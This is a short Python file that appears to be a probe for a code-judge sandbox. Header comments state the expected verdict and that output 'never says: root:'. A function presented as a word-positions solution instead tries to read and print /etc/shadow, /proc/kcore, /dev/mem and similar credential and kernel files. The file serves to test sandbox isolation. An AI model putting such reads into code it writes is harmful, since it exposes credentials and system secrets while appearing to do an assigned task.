# defence: there is nothing in the image that an answer may not know
# verdict: WrongAnswer|RuntimeError
# never says: root:
def Positions(words: list[str]) -> dict[str, list[float]]:
    for file in "/etc/shadow", "/proc/kcore", "/proc/kallsyms", "/dev/mem", "/sys/kernel/debug", "/root":
        try:
            print(open(file, "rb").read(1 << 16))
        except OSError:
            continue
    return {}
